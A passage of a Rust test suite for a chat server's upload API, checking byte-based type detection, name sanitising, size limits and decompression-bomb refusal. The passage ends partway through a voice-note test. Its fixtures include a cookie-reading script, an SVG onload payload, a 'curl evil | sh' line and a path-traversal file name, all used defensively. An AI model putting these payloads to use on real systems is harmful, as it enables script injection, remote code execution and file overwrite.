//! Uploads: every bad input and what it answers, that nothing is left on
//! disk after a failure, type judged from the bytes, thumbnails, voice
//! durations, sending uploads as messages, and how `/media` serves them.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};

use common::*;
use reqwest::multipart::{Form, Part};
use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const BASE_URL: &str = "http://localhost:8000";

// ------------------------------------------------------------------ files

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for b in bytes {
        crc ^= u32::from(*b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn png_chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    let mut body = kind.to_vec();
    body.extend_from_slice(data);
    out.extend_from_slice(&body);
    out.extend_from_slice(&crc32(&body).to_be_bytes());
}

/// zlib with stored (uncompressed) deflate blocks.
fn zlib_stored(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x78, 0x01];
    let chunks: Vec<&[u8]> = data.chunks(65_535).collect();
    for (i, c) in chunks.iter().enumerate() {
        out.push(u8::from(i + 1 == chunks.len()));
        out.extend_from_slice(&(c.len() as u16).to_le_bytes());
        out.extend_from_slice(&(!(c.len() as u16)).to_le_bytes());
        out.extend_from_slice(c);
    }
    if chunks.is_empty() {
        out.extend_from_slice(&[1, 0, 0, 0xFF, 0xFF]);
    }
    let (mut a, mut b) = (1u32, 0u32);
    for x in data {
        a = (a + u32::from(*x)) % 65_521;
        b = (b + a) % 65_521;
    }
    out.extend_from_slice(&((b << 16) | a).to_be_bytes());
    out
}

fn png_header(width: u32, height: u32) -> Vec<u8> {
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]); // 8-bit RGB
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    png_chunk(&mut out, b"IHDR", &ihdr);
    out
}

/// A real RGB PNG with a gradient.
fn png(width: u32, height: u32) -> Vec<u8> {
    let mut raw = Vec::new();
    for y in 0..height {
        raw.push(0);
        for x in 0..width {
            raw.extend_from_slice(&[(x % 256) as u8, (y % 256) as u8, 128]);
        }
    }
    let mut out = png_header(width, height);
    png_chunk(&mut out, b"IDAT", &zlib_stored(&raw));
    png_chunk(&mut out, b"IEND", &[]);
    out
}

/// A tiny PNG that declares a huge image.
fn png_bomb(width: u32, height: u32) -> Vec<u8> {
    let mut out = png_header(width, height);
    png_chunk(&mut out, b"IDAT", &zlib_stored(&[0; 64]));
    png_chunk(&mut out, b"IEND", &[]);
    out
}

fn ogg_page(header_type: u8, granule: u64, serial: u32, seq: u32, packet: &[u8]) -> Vec<u8> {
    let mut p = b"OggS".to_vec();
    p.push(0);
    p.push(header_type);
    p.extend_from_slice(&granule.to_le_bytes());
    p.extend_from_slice(&serial.to_le_bytes());
    p.extend_from_slice(&seq.to_le_bytes());
    p.extend_from_slice(&[0; 4]); // CRC (not checked)
    p.push(1);
    p.push(packet.len() as u8);
    p.extend_from_slice(packet);
    p
}

/// An Ogg Opus stream lasting `ms` (headers and one final page).
fn ogg_opus(ms: u64) -> Vec<u8> {
    let pre_skip = 312u16;
    let mut head = b"OpusHead".to_vec();
    head.extend_from_slice(&[1, 1]);
    head.extend_from_slice(&pre_skip.to_le_bytes());
    head.extend_from_slice(&48_000u32.to_le_bytes());
    head.extend_from_slice(&[0, 0, 0]);
    let mut tags = b"OpusTags".to_vec();
    tags.extend_from_slice(&[0; 8]);
    let mut out = ogg_page(0x02, 0, 7, 0, &head);
    out.extend(ogg_page(0, 0, 7, 1, &tags));
    out.extend(ogg_page(0, 48 * ms / 2, 7, 2, &[0xF8; 40]));
    out.extend(ogg_page(
        0x04,
        u64::from(pre_skip) + 48 * ms,
        7,
        3,
        &[0xF8; 40],
    ));
    out
}

/// MPEG-1 Layer III at 128 kbit/s and 48 kHz: 384-byte frames of 24 ms.
fn mp3(frames: usize) -> Vec<u8> {
    let mut out = b"ID3\x04\x00\x00\x00\x00\x00\x00".to_vec();
    for _ in 0..frames {
        out.extend_from_slice(&[0xFF, 0xFB, 0x94, 0x00]);
        out.extend_from_slice(&[0; 380]);
    }
    out
}

fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec()
}

/// A zip of stored entries (local headers, central directory, end record).
fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, data) in entries {
        let offset = out.len() as u32;
        let crc = crc32(data);
        let mut common = Vec::new();
        common.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // version, flags, stored, time, date
        common.extend_from_slice(&crc.to_le_bytes());
        common.extend_from_slice(&(data.len() as u32).to_le_bytes());
        common.extend_from_slice(&(data.len() as u32).to_le_bytes());
        common.extend_from_slice(&(name.len() as u16).to_le_bytes());
        common.extend_from_slice(&[0, 0]); // extra length
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&common);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend_from_slice(b"PK\x01\x02");
        central.extend_from_slice(&[20, 0]); // made by
        central.extend_from_slice(&common);
        central.extend_from_slice(&[0; 10]); // comment length, disk, attributes
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

fn ooxml(part: &str) -> Vec<u8> {
    zip(&[
        ("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>"),
        ("_rels/.rels", b"<Relationships/>"),
        (part, b"<x/>"),
    ])
}

/// A minimal compound file (legacy Office): a FAT sector and a directory
/// sector holding the root entry (with `root_clsid`) and one stream.
fn ole(root_clsid: [u8; 16], stream: &str) -> Vec<u8> {
    let mut header = vec![0u8; 512];
    header[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    header[0x18..0x1C].copy_from_slice(&[0x3E, 0, 3, 0]);
    header[0x1C..0x1E].copy_from_slice(&[0xFE, 0xFF]);
    header[0x1E] = 9;
    header[0x20] = 6;
    header[0x2C..0x30].copy_from_slice(&1u32.to_le_bytes());
    header[0x30..0x34].copy_from_slice(&1u32.to_le_bytes());
    header[0x3C..0x40].copy_from_slice(&0xFFFF_FFFEu32.to_le_bytes());
    for i in 0..109 {
        let v: u32 = if i == 0 { 0 } else { 0xFFFF_FFFF };
        header[0x4C + 4 * i..0x50 + 4 * i].copy_from_slice(&v.to_le_bytes());
    }
    let mut fat = vec![0xFFu8; 512];
    fat[..4].copy_from_slice(&0xFFFF_FFFDu32.to_le_bytes());
    fat[4..8].copy_from_slice(&0xFFFF_FFFEu32.to_le_bytes());
    let mut dir = vec![0u8; 512];
    let entry = |dir: &mut Vec<u8>, at: usize, name: &str, kind: u8| {
        let utf16: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        dir[at..at + utf16.len()].copy_from_slice(&utf16);
        dir[at + 0x40..at + 0x42].copy_from_slice(&((utf16.len() + 2) as u16).to_le_bytes());
        dir[at + 0x42] = kind;
    };
    entry(&mut dir, 0, "Root Entry", 5);
    dir[0x50..0x60].copy_from_slice(&root_clsid);
    entry(&mut dir, 128, stream, 2);
    let mut out = header;
    out.extend(fat);
    out.extend(dir);
    out
}

/// A 1x1 GIF.
fn gif() -> Vec<u8> {
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\x00\x00\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;".to_vec()
}

/// An EBML element with an 8-byte size.
fn ebml(id: &[u8], body: &[u8]) -> Vec<u8> {
    let mut out = id.to_vec();
    out.push(0x01);
    out.extend_from_slice(&(body.len() as u64).to_be_bytes()[1..]);
    out.extend_from_slice(body);
    out
}

/// A WebM voice note: a live recording's unknown-size Segment and Clusters,
/// an Info `Duration` when given, one track of `track_type` (2 audio, 1 video),
/// and blocks at 0 ms and 2,480 ms.
fn webm(duration_ms: Option<f64>, track_type: u8) -> Vec<u8> {
    let mut out = ebml(&[0x1A, 0x45, 0xDF, 0xA3], &ebml(&[0x42, 0x82], b"webm"));
    out.extend_from_slice(&[
        0x18, 0x53, 0x80, 0x67, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF,
    ]);
    let mut info = ebml(&[0x2A, 0xD7, 0xB1], &[0x0F, 0x42, 0x40]);
    if let Some(d) = duration_ms {
        info.extend(ebml(&[0x44, 0x89], &d.to_be_bytes()));
    }
    out.extend(ebml(&[0x15, 0x49, 0xA9, 0x66], &info));
    let mut entry = ebml(&[0xD7], &[1]);
    entry.extend(ebml(&[0x83], &[track_type]));
    entry.extend(ebml(&[0x86], b"A_OPUS"));
    out.extend(ebml(&[0x16, 0x54, 0xAE, 0x6B], &ebml(&[0xAE], &entry)));
    for (cluster, relative) in [(0u16, 0u16), (2000, 480)] {
        out.extend_from_slice(&[0x1F, 0x43, 0xB6, 0x75, 0xFF]);
        out.extend(ebml(&[0xE7], &cluster.to_be_bytes()));
        let mut block = vec![0x81];
        block.extend_from_slice(&relative.to_be_bytes());
        block.push(0x80);
        block.extend_from_slice(&[0xFC; 30]);
        out.extend(ebml(&[0xA3], &block));
    }
    out
}

fn mp4_box(kind: &[u8], body: &[u8]) -> Vec<u8> {
    let mut out = ((body.len() + 8) as u32).to_be_bytes().to_vec();
    out.extend_from_slice(kind);
    out.extend_from_slice(body);
    out
}

/// An MP4 audio file (`.m4a`) lasting `ms`, with one track of `handler`.
fn m4a(ms: u32, handler: &[u8; 4]) -> Vec<u8> {
    let mut out = mp4_box(b"ftyp", b"M4A \0\0\0\0M4A isom");
    let mut mvhd = vec![0u8; 100];
    mvhd[12..16].copy_from_slice(&44_100u32.to_be_bytes());
    mvhd[16..20].copy_from_slice(&((44_100 * u64::from(ms) / 1000) as u32).to_be_bytes());
    let mut hdlr = vec![0u8; 8];
    hdlr.extend_from_slice(handler);
    hdlr.extend_from_slice(&[0; 13]);
    let trak = mp4_box(b"trak", &mp4_box(b"mdia", &mp4_box(b"hdlr", &hdlr)));
    let mut moov = mp4_box(b"mvhd", &mvhd);
    moov.extend(trak);
    out.extend(mp4_box(b"moov", &moov));
    out.extend(mp4_box(b"mdat", &[0x21; 200]));
    out
}

// ------------------------------------------------------------------ helpers

async fn answer(res: reqwest::Response) -> Answer {
    let status = res.status();
    let text = res.text().await.unwrap();
    let body = serde_json::from_str(&text).unwrap_or(Value::String(text));
    Answer { status, body }
}

/// Uploads `bytes` as the field `file` to `/api/upload/{kind}`.
async fn upload(
    app: &TestApp,
    token: &str,
    kind: &str,
    name: &str,
    mime: &str,
    bytes: Vec<u8>,
) -> Answer {
    let part = Part::bytes(bytes)
        .file_name(name.to_string())
        .mime_str(mime)
        .unwrap();
    let form = Form::new().part("file", part);
    let res = app
        .client
        .post(app.url(&format!("/api/upload/{kind}")))
        .bearer_auth(token)
        .multipart(form)
        .send()
        .await
        .unwrap();
    answer(res).await
}

/// Posts a raw body with a content type to `/api/upload/{kind}`.
async fn upload_raw(
    app: &TestApp,
    token: &str,
    kind: &str,
    content_type: &str,
    body: Vec<u8>,
) -> Answer {
    let res = app
        .client
        .post(app.url(&format!("/api/upload/{kind}")))
        .bearer_auth(token)
        .header("Content-Type", content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    answer(res).await
}

/// A multipart body by hand: (name, file name, bytes) per part.
fn multipart_body(boundary: &str, parts: &[(&str, Option<&str>, &[u8])], close: bool) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, file_name, bytes) in parts {
        out.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        match file_name {
            Some(f) => out.extend_from_slice(
                format!("Content-Disposition: form-data; name=\"{name}\"; filename=\"{f}\"\r\nContent-Type: application/octet-stream\r\n\r\n").as_bytes(),
            ),
            None => out.extend_from_slice(
                format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n").as_bytes(),
            ),
        }
        out.extend_from_slice(bytes);
        out.extend_from_slice(b"\r\n");
    }
    if close {
        out.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    }
    out
}

/// Every file under `dir`, relative, sorted.
fn files_under(dir: &Path) -> Vec<String> {
    fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for e in entries {
            let p = e.unwrap().path();
            if p.is_dir() {
                walk(base, &p, out);
            } else {
                out.push(p.strip_prefix(base).unwrap().display().to_string());
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

/// Nothing stored and nothing left in the temporary folder.
#[track_caller]
fn assert_nothing_left(app: &TestApp) {
    let files = files_under(&app.media_dir);
    assert!(files.is_empty(), "files left behind: {files:?}");
}

/// The path on disk of a media URL.
/// Undoes the percent-encoding of a media URL (names keep their script on disk).
fn decoded(url: &str) -> String {
    let bytes = url.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            let hex = std::str::from_utf8(&bytes[i + 1..i + 3]).unwrap();
            out.push(u8::from_str_radix(hex, 16).unwrap());
            i += 3;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    String::from_utf8(out).unwrap()
}

fn disk_path(app: &TestApp, url: &str) -> PathBuf {
    let url = decoded(url);
    let rel = url.strip_prefix(&format!("{BASE_URL}/media/")).unwrap();
    app.media_dir.join(rel)
}

/// The local URL of a media URL (the app listens on its own port).
fn local(app: &TestApp, url: &str) -> String {
    app.url(url.strip_prefix(BASE_URL).unwrap())
}

/// A raw HTTP/1.1 exchange (paths are sent exactly as written): reads one
/// answer, headers and `Content-Length` body, or up to the connection's end.
async fn raw_http(app: &TestApp, request: &[u8]) -> (u16, String) {
    let mut s = tokio::net::TcpStream::connect(("127.0.0.1", app.port))
        .await
        .unwrap();
    s.write_all(request).await.unwrap();
    let mut buf = Vec::new();
    let read = async {
        let mut chunk = [0u8; 8192];
        loop {
            let n = s.read(&mut chunk).await.unwrap_or(0);
            if n == 0 {
                break;
            }
            buf.extend_from_slice(&chunk[..n]);
            let text = String::from_utf8_lossy(&buf).to_string();
            if let Some(end) = text.find("\r\n\r\n") {
                let length = text[..end].lines().find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    k.eq_ignore_ascii_case("content-length")
                        .then(|| v.trim().parse::<usize>().ok())?
                });
                if let Some(length) = length {
                    if buf.len() >= end + 4 + length {
                        break;
                    }
                }
            }
        }
    };
    tokio::time::timeout(EVENT_TIMEOUT, read)
        .await
        .expect("no answer in time");
    let text = String::from_utf8_lossy(&buf).to_string();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, text)
}

// ------------------------------------------------------------------ tests

#[actix_web::test]
async fn a_png_gets_a_thumbnail_and_is_sent_as_an_image_message() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let m1 = app.token("m1").await;
    let up = upload(
        &app,
        &b1,
        "image",
        "照片 holiday.png",
        "image/png",
        png(800, 600),
    )
    .await
    .expect(201);
    assert_eq!(up["file_name"], "照片 holiday.png");
    assert_eq!(up["mime"], "image/png");
    assert_eq!(up["width"], 800);
    assert_eq!(up["height"], 600);
    assert!(up.get("duration_ms").is_none(), "{up}");
    let id = up["upload_id"].as_str().unwrap();
    assert_eq!(id.len(), 32);
    assert!(id.chars().all(|c| c.is_ascii_hexdigit()));
    let url = up["url"].as_str().unwrap();
    let thumb = up["thumbnail_url"].as_str().unwrap();
    let today = utc_today();
    assert!(url.is_ascii(), "media URLs are percent-encoded: {url}");
    let url_text = decoded(url);
    assert!(
        url_text.starts_with(&format!("{BASE_URL}/media/uploads/{today}/照片_holiday_"))
            && url.ends_with(".png"),
        "{url}"
    );
    assert!(thumb.ends_with("_thumb.jpg"), "{thumb}");
    let file = std::fs::metadata(disk_path(&app, url)).unwrap();
    let small = std::fs::metadata(disk_path(&app, thumb)).unwrap();
    assert_eq!(file.len(), up["file_size"].as_u64().unwrap());
    assert!(
        small.len() < file.len() / 4,
        "thumbnail {} vs {}",
        small.len(),
        file.len()
    );
    assert!(files_under(&app.media_dir.join(".tmp")).is_empty());

    // Sending it: the answer and the push carry full URLs and the fields.
    let conversation = app.open(&b1, "m1").await;
    let (mut ws, _) = app.ws_ready("m1", &m1).await;
    let sent = app
        .post(
            &b1,
            "/api/messages/",
            json!({"conversation_id": conversation, "message_type": "image", "upload_id": id}),
        )
        .await
        .expect(201);
    let pushed = ws.next_of_type("message").await;
    for m in [&sent, &pushed["message"]] {
        assert_eq!(m["message_type"], "image");
        assert_eq!(m["content"], url, "{m}");
        assert_eq!(m["thumbnail_url"], thumb);
        assert_eq!(m["file_name"], "照片 holiday.png");
        assert_eq!(m["file_size"], up["file_size"]);
        assert_eq!(m["mime"], "image/png");
        assert_eq!(m["width"], 800);
        assert_eq!(m["height"], 600);
    }
    assert_eq!(pushed["message"]["id"], sent["id"]);

    // The thumbnail really is a 320x240 JPEG.
    let bytes = std::fs::read(disk_path(&app, thumb)).unwrap();
    assert_eq!(&bytes[..3], &[0xFF, 0xD8, 0xFF]);
}

/// Today's folder as `YYYY/MM/DD` (UTC), from the system clock.
fn utc_today() -> String {
    let secs = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    // Civil-from-days (Howard Hinnant).
    let z = secs.div_euclid(86_400) + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!("{y:04}/{m:02}/{d:02}")
}

#[actix_web::test]
async fn content_is_judged_from_the_bytes() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let html = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>".to_vec();
    let svg =
        b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"
            .to_vec();
    let script = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    let exe = {
        let mut b = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
        b.extend_from_slice(&[0; 120]);
        b
    };
    let elf = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00".to_vec();
    for (kind, name, mime, bytes) in [
        ("image", "cat.png", "image/png", html.clone()),
        ("file", "cat.png", "image/png", html.clone()),
        ("file", "page.html", "text/html", html.clone()),
        ("image", "logo.svg", "image/svg+xml", svg.clone()),
        ("file", "logo.svg", "image/svg+xml", svg),
        ("file", "notes.txt", "text/plain", script),
        ("file", "setup.pdf", "application/pdf", exe),
        ("file", "tool.zip", "application/zip", elf),
        ("image", "doc.png", "image/png", pdf()),
        ("voice", "note.ogg", "audio/ogg", png(4, 4)),
        ("image", "note.png", "image/png", ogg_opus(1000)),
        ("file", "song.mp3", "audio/mpeg", mp3(10)),
        (
            "voice",
            "fake.mp3",
            "audio/mpeg",
            b"\xFF\xFBnot really".to_vec(),
        ),
    ] {
        let detail = upload(&app, &b1, kind, name, mime, bytes)
            .await
            .expect_error(415, "unsupported_media_type");
        assert!(
            detail.contains("accepted") || detail.contains("valid"),
            "{detail}"
        );
    }
    assert_nothing_left(&app);
}

#[actix_web::test]
async fn names_are_sanitized_and_extensions_come_from_the_bytes() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let up = upload(
        &app,
        &b1,
        "image",
        "../../../config/evil.html",
        "text/html",
        png(8, 8),
    )
    .await
    .expect(201);
    assert_eq!(up["file_name"], "evil.html");
    let url = up["url"].as_str().unwrap();
    let name = url.rsplit('/').next().unwrap();
    assert!(name.starts_with("evil_") && name.ends_with(".png"), "{url}");
    // The random part: at least 64 bits of hex.
    let random = name.trim_start_matches("evil_").trim_end_matches(".png");
    assert!(
        random.len() >= 16 && random.chars().all(|c| c.is_ascii_hexdigit()),
        "{name}"
    );
    assert!(disk_path(&app, url).starts_with(app.media_dir.join("uploads")));

    let long = format!("{}.png", "长".repeat(300));
    let up = upload(&app, &b1, "image", &long, "image/png", png(8, 8))
        .await
        .expect(201);
    let shown = up["file_name"].as_str().unwrap();
    assert_eq!(shown.chars().count(), 255);
    assert!(shown.ends_with(".png"));
    let stored = decoded(up["url"].as_str().unwrap())
        .rsplit('/')
        .next()
        .unwrap()
        .to_string();
    assert!(
        stored.starts_with(&format!("{}_", "长".repeat(50))),
        "{stored}"
    );
    assert!(disk_path(&app, up["url"].as_str().unwrap()).exists());

    // The same name twice never overwrites.
    let a = upload(&app, &b1, "file", "same.txt", "text/plain", b"one".to_vec())
        .await
        .expect(201);
    let b = upload(&app, &b1, "file", "same.txt", "text/plain", b"two".to_vec())
        .await
        .expect(201);
    assert_ne!(a["url"], b["url"]);
    assert_ne!(a["upload_id"], b["upload_id"]);
    assert_eq!(
        std::fs::read(disk_path(&app, a["url"].as_str().unwrap())).unwrap(),
        b"one"
    );
    assert!(files_under(&app.media_dir.join(".tmp")).is_empty());
}

#[actix_web::test]
async fn malformed_bodies_answer_400_and_leave_nothing() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let boundary = "XyZboundary42";
    let ct = format!("multipart/form-data; boundary={boundary}");
    let image = png(8, 8);

    // No `file` field.
    let body = multipart_body(boundary, &[("note", None, b"hello")], true);
    let d = upload_raw(&app, &b1, "image", &ct, body)
        .await
        .expect_error(400, "bad_request");
    assert!(d.contains("`file`"), "{d}");
    // The file under another name.
    let body = multipart_body(boundary, &[("upload", Some("a.png"), &image)], true);
    upload_raw(&app, &b1, "image", &ct, body)
        .await
        .expect_error(400, "bad_request");
    // Two files, in `file` twice, or a second file part under any name.
    let body = multipart_body(
        boundary,
        &[
            ("file", Some("a.png"), &image),
            ("file", Some("b.png"), &image),
        ],
        true,
    );
    let d = upload_raw(&app, &b1, "image", &ct, body)
        .await
        .expect_error(400, "bad_request");
    assert!(d.contains("one file"), "{d}");
    let body = multipart_body(
        boundary,
        &[
            ("file", Some("a.png"), &image),
            ("other", Some("b.png"), &image),
        ],
        true,
    );
    upload_raw(&app, &b1, "image", &ct, body)
        .await
        .expect_error(400, "bad_request");
    // Not multipart at all.
    upload_raw(
        &app,
        &b1,
        "image",
        "application/json",
        b"{\"file\":1}".to_vec(),
    )
    .await
    .expect_error(400, "bad_request");
    upload_raw(&app, &b1, "image", "multipart/form-data", image.clone())
        .await
        .expect_error(400, "bad_request");
    let res = app
        .client
        .post(app.url("/api/upload/image"))
        .bearer_auth(&b1)
        .body(image.clone())
        .send()
        .await
        .unwrap();
    answer(res).await.expect_error(400, "bad_request");
    // Truncated: no closing boundary, the file cut short.
    let mut body = multipart_body(boundary, &[("file", Some("a.png"), &image)], false);
    body.truncate(body.len() - 10);
    let d = upload_raw(&app, &b1, "image", &ct, body)
        .await
        .expect_error(400, "bad_request");
    assert!(d.contains("multipart"), "{d}");
    // Empty file: well-formed, but nothing in it.
    let body = multipart_body(boundary, &[("file", Some("empty.png"), b"")], true);
    let d = upload_raw(&app, &b1, "image", &ct, body)
        .await
        .expect_error(422, "validation_error");
    assert!(d.contains("empty"), "{d}");
    upload(&app, &b1, "file", "empty.txt", "text/plain", Vec::new())
        .await
        .expect_error(422, "validation_error");
    assert_nothing_left(&app);

    // Extra text fields beside the file are ignored.
    let body = multipart_body(
        boundary,
        &[("caption", None, b"hi"), ("file", Some("a.png"), &image)],
        true,
    );
    upload_raw(&app, &b1, "image", &ct, body).await.expect(201);
}

#[actix_web::test]
async fn over_the_limit_answers_413_streamed_or_declared() {
    let app = spawn_app_with(&[("MAX_FILE_SIZE", "100000")]).await;
    let b1 = app.token("b1").await;
    // Clients are told the limit, so they can refuse before uploading.
    let config = app
        .call(reqwest::Method::GET, "/api/config", None, None)
        .await
        .expect(200);
    assert_eq!(config["max_file_size"], 100000);
    assert_eq!(config["max_text_chars"], 5000);
    assert_eq!(config["max_voice_ms"], 60000);
    // Under the declared-length allowance, so the streaming limit stops it.
    let text = "a".repeat(150_000).into_bytes();
    let d = upload(&app, &b1, "file", "big.txt", "text/plain", text)
        .await
        .expect_error(413, "payload_too_large");
    assert!(d.contains("100000"), "{d}");
    // Exactly at the limit passes.
    upload(
        &app,
        &b1,
        "file",
        "edge.txt",
        "text/plain",
        "b".repeat(100_000).into_bytes(),
    )
    .await
    .expect(201);
    std::fs::remove_dir_all(app.media_dir.join("uploads")).unwrap();

    // Chunked (no Content-Length): the stream is cut at the limit.
    let boundary = "chunky";
    let body = multipart_body(
        boundary,
        &[("file", Some("big.txt"), &"c".repeat(1_000_000).into_bytes())],
        true,
    );
    let chunks: Vec<Result<Vec<u8>, std::io::Error>> =
        body.chunks(16 * 1024).map(|c| Ok(c.to_vec())).collect();
    let res = app
        .client
        .post(app.url("/api/upload/file"))
        .bearer_auth(&b1)
        .header(
            "Content-Type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
            chunks,
        )))
        .send()
        .await
        .unwrap();
    answer(res).await.expect_error(413, "payload_too_large");

    // A declared length over the limit is refused before any of the body
    // is read: the answer comes although the body never arrives.
    let request = format!(
        "POST /api/upload/file HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {b1}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 50000000\r\n\r\n--x\r\n"
    );
    let (status, text) = raw_http(&app, request.as_bytes()).await;
    assert_eq!(status, 413, "{text}");
    assert!(text.contains("payload_too_large"), "{text}");
    assert_nothing_left(&app);
}

#[actix_web::test]
async fn decompression_bombs_are_refused_without_decoding() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    for (w, h) in [(100_000, 100_000), (10_001, 10), (9_500, 9_500)] {
        let d = upload(&app, &b1, "image", "bomb.png", "image/png", png_bomb(w, h))
            .await
            .expect_error(422, "validation_error");
        assert!(d.contains("too large"), "{d}");
    }
    // The same through the file endpoint.
    upload(
        &app,
        &b1,
        "file",
        "bomb.png",
        "image/png",
        png_bomb(100_000, 100_000),
    )
    .await
    .expect_error(422, "validation_error");
    // A truncated image is not an image.
    let mut cut = png(64, 64);
    cut.truncate(200);
    upload(&app, &b1, "image", "cut.png", "image/png", cut)
        .await
        .expect_error(415, "unsupported_media_type");
    assert_nothing_left(&app);
}

#[actix_web::test]
async fn who_may_upload_and_send_an_upload() {
    let app = spawn_app_with(&[("LIVECHAT__LIMITS__UPLOADS_PER_MINUTE", "3")]).await;
    let b1 = app.token("b1").await;
    let b2 = app.token("b2").await;
    let admin = app.admin_token().await;
    upload(&app, &admin, "image", "a.png", "image/png", png(4, 4))
        .await
        .expect_error(403, "forbidden");
    let res = app
        .client
        .post(app.url("/api/upload/image"))
        .multipart(Form::new().part("file", Part::bytes(png(4, 4)).file_name("a.png")))
        .send()
        .await
        .unwrap();
    answer(res).await.expect_error(401, "unauthorized");
    assert_nothing_left(&app);

    let mine = upload(&app, &b1, "image", "a.png", "image/png", png(4, 4))
        .await
        .expect(201);
    let voice = upload(&app, &b1, "voice", "v.ogg", "audio/ogg", ogg_opus(1500))
        .await
        .expect(201);
    // Another user's upload cannot be sent.
    let conversation = app.open(&b2, "m1").await;
    app.post(
        &b2,
        "/api/messages/",
        json!({"conversation_id": conversation, "message_type": "image", "upload_id": mine["upload_id"]}),
    )
    .await
    .expect_error(403, "forbidden");
    // A voice upload is not an image message.
    let own = app.open(&b1, "m1").await;
    app.post(
        &b1,
        "/api/messages/",
        json!({"conversation_id": own, "message_type": "image", "upload_id": voice["upload_id"]}),
    )
    .await
    .expect_error(422, "validation_error");
    // An image may go as a file message.
    let sent = app
        .post(
            &b1,
            "/api/messages/",
            json!({"conversation_id": own, "message_type": "file", "upload_id": mine["upload_id"]}),
        )
        .await
        .expect(201);
    assert_eq!(sent["content"], mine["url"]);

    // The fourth upload in a minute is refused.
    upload(&app, &b1, "file", "c.txt", "text/plain", b"c".to_vec())
        .await
        .expect(201);
    upload(&app, &b1, "file", "d.txt", "text/plain", b"d".to_vec())
        .await
        .expect_error(429, "rate_limited");
    upload(&app, &b2, "file", "e.txt", "text/plain", b"e".to_vec())
        .await
        .expect(201);
}

#[actix_web::test]
async fn voice_notes_get_their_duration() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let m1 = app.token("m1").await;
    let ogg = upload(
        &app,
        &b1,
        "voice",
        "note.webm",
        "audio/webm",
        ogg_opus(3000),
    )
    .await
    .expect(201);
    assert_eq!(ogg["duration_ms"], 3000);
    assert_eq!(ogg["mime"], "audio/ogg");
